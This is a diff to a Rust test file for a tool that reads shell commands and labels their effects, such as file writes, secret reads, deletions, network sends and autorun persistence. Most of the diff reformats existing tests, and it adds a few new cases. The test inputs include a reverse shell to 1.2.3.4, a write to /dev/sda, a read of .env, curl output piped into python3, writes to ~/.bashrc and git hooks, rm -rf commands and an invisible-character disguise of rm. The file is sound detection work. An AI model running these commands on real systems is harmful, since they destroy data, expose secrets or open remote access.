@@ -5,30 +5,73 @@ use crate::testing::Fixture;
 
 #[test]
 fn redirections() {
-    check(&empty(), &[
-        ("echo x > a", &["write file:/home/dev/proj/a [truncate creates] project"]),
-        ("> a", &["write file:/home/dev/proj/a [truncate creates] project"]),
-        (": >| a", &["write file:/home/dev/proj/a [truncate creates] project"]),
-        ("echo x >> a", &["write file:/home/dev/proj/a [append creates] project"]),
-        ("make &> a", &[
-            "write file:/home/dev/proj/a [truncate creates] project",
-            "execute program:make",
-        ]),
-        ("{ echo a; echo b; } > a", &["write file:/home/dev/proj/a [truncate creates] project"]),
-        ("for i in 1; do echo $i; done > a", &["write file:/home/dev/proj/a [truncate creates] project"]),
-        ("ls > /dev/null 2>&1", &[]),
-        ("ls 2>/dev/null >&2", &[]),
-        ("echo x > /dev/sda", &["write file:/dev/sda [truncate creates] system"]),
-        ("cat < a", &["read file:/home/dev/proj/a project"]),
-        ("echo x > $nope", &["write file: [truncate] (unknown), loss unknown"]),
-        ("cat < .env", &["read file:/home/dev/proj/.env [secret] project"]),
-        ("cat .env.example", &["read file:/home/dev/proj/.env.example project"]),
-        ("bash -i >& /dev/tcp/1.2.3.4/80 0>&1", &["send url:tcp://1.2.3.4/80", "open_channel program:bash"]),
-        ("echo x >> ~/.bashrc", &["write autorun:/home/dev/.bashrc [append creates] home"]),
-        ("echo x > .git/hooks/pre-commit", &[
-            "write autorun:/home/dev/proj/.git/hooks/pre-commit [truncate creates] project",
-        ]),
-    ]);
+    check(
+        &empty(),
+        &[
+            (
+                "echo x > a",
+                &["write file:/home/dev/proj/a [truncate creates] project"],
+            ),
+            (
+                "> a",
+                &["write file:/home/dev/proj/a [truncate creates] project"],
+            ),
+            (
+                ": >| a",
+                &["write file:/home/dev/proj/a [truncate creates] project"],
+            ),
+            (
+                "echo x >> a",
+                &["write file:/home/dev/proj/a [append creates] project"],
+            ),
+            (
+                "make &> a",
+                &[
+                    "write file:/home/dev/proj/a [truncate creates] project",
+                    "execute program:make",
+                ],
+            ),
+            (
+                "{ echo a; echo b; } > a",
+                &["write file:/home/dev/proj/a [truncate creates] project"],
+            ),
+            (
+                "for i in 1; do echo $i; done > a",
+                &["write file:/home/dev/proj/a [truncate creates] project"],
+            ),
+            ("ls > /dev/null 2>&1", &[]),
+            ("ls 2>/dev/null >&2", &[]),
+            (
+                "echo x > /dev/sda",
+                &["write file:/dev/sda [truncate creates] system"],
+            ),
+            ("cat < a", &["read file:/home/dev/proj/a project"]),
+            (
+                "echo x > $nope",
+                &["write file: [truncate] (unknown), loss unknown"],
+            ),
+            (
+                "cat < .env",
+                &["read file:/home/dev/proj/.env [secret] project"],
+            ),
+            (
+                "cat .env.example",
+                &["read file:/home/dev/proj/.env.example project"],
+            ),
+            (
+                "bash -i >& /dev/tcp/1.2.3.4/80 0>&1",
+                &["send url:tcp://1.2.3.4/80", "open_channel program:bash"],
+            ),
+            (
+                "echo x >> ~/.bashrc",
+                &["write autorun:/home/dev/.bashrc [append creates] home"],
+            ),
+            (
+                "echo x > .git/hooks/pre-commit",
+                &["write autorun:/home/dev/proj/.git/hooks/pre-commit [truncate creates] project"],
+            ),
+        ],
+    );
 }
 
 #[test]
@@ -49,7 +92,10 @@ fn overwriting() {
         .seen("known.md")
         .untracked("known.md");
     assert_eq!(world.deeds("echo > a.rs"), [lost("a.rs", "modified")]);
-    assert_eq!(world.deeds("echo > notes.md"), [lost("notes.md", "untracked")]);
+    assert_eq!(
+        world.deeds("echo > notes.md"),
+        [lost("notes.md", "untracked")]
+    );
     assert_eq!(world.deeds("echo > .env2"), [lost(".env2", "ignored")]);
     for file in ["clean.rs", "server.log", "dist/app.js", "known.md"] {
         assert_eq!(world.deeds(&format!("echo > {file}")), [quiet(file)]);
@@ -71,16 +117,34 @@ fn downloads_into_shells() {
         "curl -s https://x.example/a | python3",
     ] {
         let deeds = empty().deeds(command);
-        let runs = deeds.iter().any(|d| d.starts_with("execute program:") && d.contains("downloaded"));
+        let runs = deeds
+            .iter()
+            .any(|d| d.starts_with("execute program:") && d.contains("downloaded"));
         assert!(runs, "{command}: {deeds:?}");
     }
-    let quiet = empty().deeds("curl -s https://x.example/a | jq .");
-    assert!(quiet.iter().all(|deed| !deed.contains("downloaded")), "{quiet:?}");
+    let quiet: Vec<String> = [
+        "curl -s https://x.example/a | jq .",
+        "curl -s https://x.example/a | python3 -m json.tool",
+        "curl -s https://x.example/a | frobnicate",
+    ]
+    .iter()
+    .flat_map(|command| empty().deeds(command))
+    .collect();
+    assert!(
+        quiet.iter().all(|deed| !deed.contains("downloaded")),
+        "{quiet:?}"
+    );
 }
 
 #[test]
 fn unknown_text_into_shells() {
-    for command in ["generate | sh", "generate | bash -s", "bash -c \"$x\"", "$x -rf /", "generate | python3"] {
+    for command in [
+        "generate | sh",
+        "generate | bash -s",
+        "bash -c \"$x\"",
+        "$x -rf /",
+        "generate | python3",
+    ] {
         let reading = empty().read(command);
         let runs = reading.actions.iter().any(|action| {
             action.verb == model::Verb::Execute && action.certainty == model::Certainty::Unknown
@@ -91,18 +155,33 @@ fn unknown_text_into_shells() {
 
 #[test]
 fn functions_shadow_programs() {
-    check(&empty(), &[
-        ("rm() { :; }; rm -rf ~", &[]),
-        ("rm() { :; }; command rm x", &["delete file:/home/dev/proj/x project"]),
-        ("rm() { :; }; \\rm x", &[]),
-        ("rm() { :; }; unset -f rm; rm x", &["delete file:/home/dev/proj/x project"]),
-        ("rm() { :; }; bash -c 'rm x'", &["delete file:/home/dev/proj/x project"]),
-        ("f() { rm x; }", &[]),
-        ("f() { rm x; return; rm y; }; f; rm z", &[
-            "delete file:/home/dev/proj/x project",
-            "delete file:/home/dev/proj/z project",
-        ]),
-    ]);
+    check(
+        &empty(),
+        &[
+            ("rm() { :; }; rm -rf ~", &[]),
+            (
+                "rm() { :; }; command rm x",
+                &["delete file:/home/dev/proj/x project"],
+            ),
+            ("rm() { :; }; \\rm x", &[]),
+            (
+                "rm() { :; }; unset -f rm; rm x",
+                &["delete file:/home/dev/proj/x project"],
+            ),
+            (
+                "rm() { :; }; bash -c 'rm x'",
+                &["delete file:/home/dev/proj/x project"],
+            ),
+            ("f() { rm x; }", &[]),
+            (
+                "f() { rm x; return; rm y; }; f; rm z",
+                &[
+                    "delete file:/home/dev/proj/x project",
+                    "delete file:/home/dev/proj/z project",
+                ],
+            ),
+        ],
+    );
 }
 
 #[test]
@@ -113,37 +192,79 @@ fn script_files() {
         .file("prog.py", "#!/usr/bin/env python3\nimport os\n")
         .file("env.sh", "D=/srv/d\n")
         .file("loop.sh", "bash loop.sh; rm x\n");
-    check(&world, &[
-        ("./run.sh /srv/x", &["delete file:/srv/x [recursive force script] outside (derived)"]),
-        ("bash run.sh /srv/x", &["delete file:/srv/x [recursive force script] outside (derived)"]),
-        ("./tool", &["delete file:/home/dev/proj/x [script] project (derived)"]),
-        ("./prog.py", &["execute program:prog.py"]),
-        ("./missing.sh", &["execute program:missing.sh"]),
-        (". ./env.sh; rm -rf $D", &["delete file:/srv/d [recursive force] outside (derived)"]),
-        ("bash loop.sh", &[
-            "execute program:loop.sh [script] (derived)",
-            "delete file:/home/dev/proj/x [script] project (derived)",
-        ]),
-    ]);
+    check(
+        &world,
+        &[
+            (
+                "./run.sh /srv/x",
+                &["delete file:/srv/x [recursive force script] outside (derived)"],
+            ),
+            (
+                "bash run.sh /srv/x",
+                &["delete file:/srv/x [recursive force script] outside (derived)"],
+            ),
+            (
+                "./tool",
+                &["delete file:/home/dev/proj/x [script] project (derived)"],
+            ),
+            ("./prog.py", &["execute program:prog.py"]),
+            ("./missing.sh", &["execute program:missing.sh"]),
+            (
+                ". ./env.sh; rm -rf $D",
+                &["delete file:/srv/d [recursive force] outside (derived)"],
+            ),
+            (
+                "bash loop.sh",
+                &[
+                    "execute program:loop.sh [script] (derived)",
+                    "delete file:/home/dev/proj/x [script] project (derived)",
+                ],
+            ),
+        ],
+    );
 }
 
 #[test]
 fn harmless_commands_have_no_deeds() {
     for command in [
-        "ls -la", "echo 'rm -rf /'", "true # rm -rf /", "git commit -m 'rm -rf /' --dry-run", "pwd; date",
-        "test -f x && echo yes", "[[ -d x ]]", "x=1; echo $x", "sleep 1", "which node", "type rm",
-        "true <<'E'\nrm -rf /\nE", "f() { rm x; }; type f", "set -euo pipefail", "wait; jobs",
-        "alias x='rm -rf /'", "((i = 1)); echo $i", "let i=1", "shopt -s globstar",
+        "ls -la",
+        "echo 'rm -rf /'",
+        "true # rm -rf /",
+        "git commit -m 'rm -rf /' --dry-run",
+        "pwd; date",
+        "test -f x && echo yes",
+        "[[ -d x ]]",
+        "x=1; echo $x",
+        "sleep 1",
+        "which node",
+        "type rm",
+        "true <<'E'\nrm -rf /\nE",
+        "f() { rm x; }; type f",
+        "set -euo pipefail",
+        "wait; jobs",
+        "alias x='rm -rf /'",
+        "((i = 1)); echo $i",
+        "let i=1",
+        "shopt -s globstar",
     ] {
         let deeds = empty().deeds(command);
         let harmful = deeds.iter().filter(|deed| !deed.starts_with("write git:"));
         assert_eq!(harmful.count(), 0, "{command}: {deeds:?}");
     }
-    check(&empty(), &[
-        ("grep -rn 'rm -rf' scripts/", &["read file:/home/dev/proj/scripts project"]),
-        ("head -n 5 a.txt", &["read file:/home/dev/proj/a.txt project"]),
-        ("frobnicate --all", &["execute program:frobnicate"]),
-    ]);
+    check(
+        &empty(),
+        &[
+            (
+                "grep -rn 'rm -rf' scripts/",
+                &["read file:/home/dev/proj/scripts project"],
+            ),
+            (
+                "head -n 5 a.txt",
+                &["read file:/home/dev/proj/a.txt project"],
+            ),
+            ("frobnicate --all", &["execute program:frobnicate"]),
+        ],
+    );
 }
 
 #[test]
@@ -153,4 +274,20 @@ fn what_cannot_be_read_is_said() {
     }
     let reading = empty().read("rm x; )");
     assert_eq!(reading.actions[0].name, "/home/dev/proj/x");
+}
+
+#[test]
+fn names_that_look_like_others() {
+    let reading = empty().read("rm\u{200b} -rf /tmp/zz");
+    assert_eq!(reading.actions[0].verb, model::Verb::Unknown);
+    assert_eq!(
+        reading.unread,
+        ["invisible characters in the name of a program"]
+    );
+    let mut folding = empty();
+    folding.place.folds_case = true;
+    assert_eq!(
+        folding.deeds("RM -rf /SRV/x")[0],
+        "delete file:/SRV/x [recursive force] outside"
+    );
 }
